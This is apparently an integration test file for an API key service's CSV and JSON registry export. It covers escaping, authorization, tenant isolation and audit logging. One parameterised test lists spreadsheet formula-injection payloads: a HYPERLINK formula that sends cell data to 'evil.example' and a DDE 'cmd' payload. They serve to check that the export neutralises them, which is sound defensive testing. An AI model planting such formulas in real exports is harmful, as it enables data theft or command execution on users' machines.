import { parseCsv, parseCsvTable } from '../support/csv';
import { startTestKeyward, type TestKeyward } from '../support/keyward';
import { createOrganization, withRooms } from '../support/organizations';
import { until } from '../support/process';

let keyward: TestKeyward;
beforeEach(async () => {
  keyward = await startTestKeyward();
});
afterEach(async () => keyward.stop());

type Entry = Readonly<Record<string, unknown>>;

async function download(
  name: 'registry.csv' | 'registry.json',
  key: string | null = keyward.adminKey,
  more: Readonly<Record<string, string>> = {},
): Promise<Response> {
  const headers = { ...(key !== null && { authorization: `Bearer ${key}` }), ...more };
  return fetch(new URL(`/${name}`, keyward.url), { headers });
}

async function readCsv(): Promise<Record<string, string>[]> {
  return parseCsvTable(await (await download('registry.csv')).text());
}

async function readJson(): Promise<readonly Entry[]> {
  return (await (await download('registry.json')).json()) as readonly Entry[];
}

/** Fills an organization past HTTP; every second key is created in the same instant as another. */
async function addKeys(count: number): Promise<void> {
  await keyward.database.sql(
    `INSERT INTO api_keys (id, organization_id, name, environment, prefix, redacted, scopes, digest,
       pepper_id, created_at, created_by_kind, created_by_name, tags, metadata)
     SELECT gen_random_uuid(), organization.id, 'Key ' || number, 'LIVE', 'sk_live_abc123',
       'sk_live_abc123...GHIJ', '{contacts:read}', sha256(number::text::bytea), 'none',
       timestamptz '2020-01-01' + make_interval(secs => number / 2), 'SYSTEM', 'System', '{}', '{}'
     FROM organizations organization, generate_series(1, $1::int) AS number`,
    [count],
  );
}

async function requestsOf(operation: string): Promise<{ outcome: string; request_id: string }[]> {
  return keyward.database.sql(
    'SELECT outcome, request_id FROM api_key_requests WHERE operation = $1',
    [operation],
  );
}

test('the registry says of a key what the page asks for, as CSV and as JSON alike', async () => {
  const expiresAt = '2031-01-31T23:59:59.000Z';
  const { id } = await keyward.createKey({
    name: 'Production Web App',
    description: 'Shows the catalogue, prices included',
    owner: 'Jane "JR" Roe',
    usageLocation: 'eu-west-1, eu-central-1',
    scopes: ['agents:read', 'contacts:read'],
    expiresAt,
  });
  const { data } = await keyward.ask<{ apiKey: { redacted: string; createdAt: string } }>(
    'query ($id: ID!) { apiKey(id: $id) { redacted createdAt } }',
    { id },
  );
  const expected = {
    name: 'Production Web App',
    redacted: data.apiKey.redacted,
    createdAt: data.apiKey.createdAt,
    expiresAt,
    purpose: 'Shows the catalogue, prices included',
    usageLocation: 'eu-west-1, eu-central-1',
    owner: 'Jane "JR" Roe',
    environment: 'LIVE',
    status: 'ACTIVE',
    id,
  };
  expect((await readJson()).find((entry) => entry.id === id)).toEqual({
    ...expected,
    scopes: ['agents:read', 'contacts:read'],
    lastRotatedAt: null,
  });
  expect((await readCsv()).find((entry) => entry.id === id)).toEqual({
    ...expected,
    scopes: 'agents:read contacts:read',
    lastRotatedAt: '',
  });
});

test('the answer is a file with a name, in its media type, that nobody keeps', async () => {
  const csv = await download('registry.csv');
  expect(csv.status).toBe(200);
  expect(csv.headers.get('content-type')).toBe('text/csv; charset=utf-8; header=present');
  expect(csv.headers.get('content-disposition')).toBe('attachment; filename="registry.csv"');
  expect(csv.headers.get('cache-control')).toBe('no-store');
  const text = await csv.text();
  expect(text.split('\r\n').at(-1)).toBe('');
  expect(parseCsv(text)[0]).toEqual([
    ...['name', 'redacted', 'createdAt', 'expiresAt', 'purpose', 'usageLocation', 'owner'],
    ...['scopes', 'lastRotatedAt', 'environment', 'status', 'id'],
  ]);
  const json = await download('registry.json');
  expect(json.headers.get('content-type')).toBe('application/json; charset=utf-8');
  expect(json.headers.get('content-disposition')).toBe('attachment; filename="registry.json"');
});

test.each([
  '=HYPERLINK("https://evil.example/?"&A1,"click")',
  "+1+cmd|' /C calc'!A0",
  '-2+3',
  '@SUM(1,2)',
  '＝1+1',
])('a cell that a spreadsheet would run is text: %s', async (formula) => {
  const { id } = await keyward.createKey({ name: formula, owner: formula });
  const entry = (await readCsv()).find((each) => each.id === id);
  expect(entry).toMatchObject({ name: `'${formula}`, owner: `'${formula}` });
  // JSON is no spreadsheet: there it stays as it is.
  expect((await readJson()).find((each) => each.id === id)).toMatchObject({ name: formula });
});

test.each(['Ключ 🔑 مفتاح', 'a,b;c', '"quoted", twice""', ' spaces kept '])(
  'every text comes back as it was written: %s',
  async (description) => {
    const { id } = await keyward.createKey({ description });
    expect((await readCsv()).find((each) => each.id === id)?.purpose).toBe(description);
    expect((await readJson()).find((each) => each.id === id)?.purpose).toBe(description);
  },
);

test('5,000 keys, many of one instant, are each there once, oldest first', async () => {
  await addKeys(5_000);
  const entries = await readCsv();
  expect(entries).toHaveLength(5_001);
  expect(new Set(entries.map(({ id }) => id)).size).toBe(5_001);
  const instants = entries.map(({ createdAt = '' }) => createdAt);
  expect(instants).toEqual([...instants].sort());
  expect((await readJson()).map(({ id }) => id)).toEqual(entries.map(({ id }) => id));
});

test('a list of exactly whole batches ends where it ends', async () => {
  await addKeys(499);
  expect(await readCsv()).toHaveLength(500);
});

test('revoked keys are in it as such; keys of other organizations are not, nor their names', async () => {
  const { id } = await keyward.createKey();
  await keyward.ask(
    'mutation ($id: ID!) { revokeApiKey(input: { id: $id, reason: UNUSED }) { apiKey { id } } }',
    { id },
  );
  const other = await createOrganization(keyward, 'Another');
  const foreign = await other.createKey({ name: 'Of the others' });
  const text = await (await download('registry.csv')).text();
  expect(parseCsvTable(text).find((each) => each.id === id)?.status).toBe('REVOKED');
  expect(text).not.toContain(foreign.id);
  expect(text).not.toContain('Of the others');
  const theirs = await (await download('registry.json', foreign.secret)).text();
  expect(JSON.parse(theirs)).toEqual([expect.objectContaining({ id: foreign.id })]);
});

test('no secret, no digest and no pepper stands in it', async () => {
  const { secret } = await keyward.createKey();
  const rows = await keyward.database.sql<{ hex: string; pepper_id: string }>(
    `SELECT encode(digest, 'hex') AS hex, pepper_id FROM api_keys`,
  );
  for (const name of ['registry.csv', 'registry.json'] as const) {
    const text = await (await download(name)).text();
    for (const kept of [secret, keyward.adminKey]) expect(text).not.toContain(kept);
    for (const { hex, pepper_id } of rows) {
      expect(text).not.toContain(hex);
      expect(text).not.toContain(pepper_id);
    }
  }
});

test('without credentials it is 401 with a challenge, without api_keys:read 403, in GraphQL’s words', async () => {
  const anonymous = await download('registry.csv', null);
  expect(anonymous.status).toBe(401);
  expect(anonymous.headers.get('www-authenticate')).toBe('Bearer realm="keyward"');
  expect(anonymous.headers.get('content-disposition')).toBeNull();
  const writer = await keyward.createKey({ scopes: ['api_keys:write'] });
  const refused = await download('registry.json', writer.secret, { 'x-request-id': 'refused-1' });
  expect(refused.status).toBe(403);
  expect(refused.headers.get('www-authenticate')).toBe('Bearer error="insufficient_scope"');
  expect(await refused.json()).toMatchObject({
    errors: [
      {
        extensions: {
          code: 'UNAUTHORIZED_FIELD_OR_TYPE',
          reason: 'INSUFFICIENT_SCOPE',
          requiredScopes: [['api_keys:read']],
          requestId: 'refused-1',
        },
      },
    ],
  });
  expect(await requestsOf('registry.json')).toEqual([
    { outcome: 'INSUFFICIENT_SCOPE', request_id: 'refused-1' },
  ]);
  const bad = await download('registry.csv', `${writer.secret}x`);
  expect(bad.status).toBe(401);
  expect(bad.headers.get('www-authenticate')).toBe('Bearer error="invalid_token"');
});

test('only its Authorization header counts, and only GET', async () => {
  const url = new URL(`/registry.csv?key=${keyward.adminKey}`, keyward.url);
  expect((await fetch(url, { headers: { cookie: `key=${keyward.adminKey}` } })).status).toBe(401);
  const authorization = `Bearer ${keyward.adminKey}`;
  expect((await fetch(url, { method: 'POST', headers: { authorization } })).status).toBe(404);
});

test('the record of the request is durable before the first byte of the file leaves', async () => {
  await keyward.database.sql('BEGIN');
  await keyward.database.sql('LOCK TABLE api_key_requests');
  let answered = false;
  const answer = download('registry.csv').then((response) => {
    answered = true;
    return response;
  });
  await until('the record waits for the lock', async () => {
    const waiting = await keyward.database.sql(
      `SELECT FROM pg_locks WHERE relation = 'api_key_requests'::regclass AND NOT granted`,
    );
    return waiting.length > 0;
  });
  expect(answered).toBe(false);
  await keyward.database.sql('COMMIT');
  expect(parseCsvTable(await (await answer).text())).toHaveLength(1);
  expect(await requestsOf('registry.csv')).toEqual([expect.objectContaining({ outcome: 'VALID' })]);
});

test('if the request cannot be recorded, it is 503 and nothing of the file leaves', async () => {
  await keyward.database.sql('ALTER TABLE api_key_requests RENAME TO hidden');
  const answer = await download('registry.csv');
  expect(answer.status).toBe(503);
  expect(answer.headers.get('content-type')).toBe('application/json; charset=utf-8');
  expect(answer.headers.get('content-disposition')).toBeNull();
  const text = await answer.text();
  expect(JSON.parse(text)).toMatchObject({ errors: [{ extensions: { code: 'UNAVAILABLE' } }] });
  expect(text).not.toContain('Admin key');
});

test('if the keys cannot be read, it is an error and no file that ends early', async () => {
  await keyward.database.sql('ALTER TABLE api_keys RENAME COLUMN usage_location TO hidden');
  const answer = await download('registry.csv');
  expect(answer.headers.get('content-disposition')).toBeNull();
  expect(answer.status).toBe(500);
  expect(await requestsOf('registry.csv')).toHaveLength(1);
});

test('an export ends when the key that asks for it is revoked meanwhile', async () => {
  await addKeys(1_000);
  await withRooms(keyward, async ({ registry, organizations, verification }) => {
    const { secret } = await keyward.createKey({ scopes: ['api_keys:read'] });
    const verdict = await verification.verify(secret);
    if (verdict.outcome !== 'VALID') throw new Error('a new key is valid');
    const { key } = verdict;
    const { principal } = organizations.systemCaller(key.organizationId, 'request-1');
    const batches = registry.batches({ ...principal, kind: 'API_KEY', apiKeyId: key.id });
    expect((await batches.next()).done).toBe(false);
    await keyward.ask(
      'mutation ($id: ID!) { revokeApiKey(input: { id: $id, reason: COMPROMISED }) { apiKey { id } } }',
      { id: key.id },
    );
    await expect(batches.next()).rejects.toMatchObject({ reason: 'REVOKED' });
  });
});
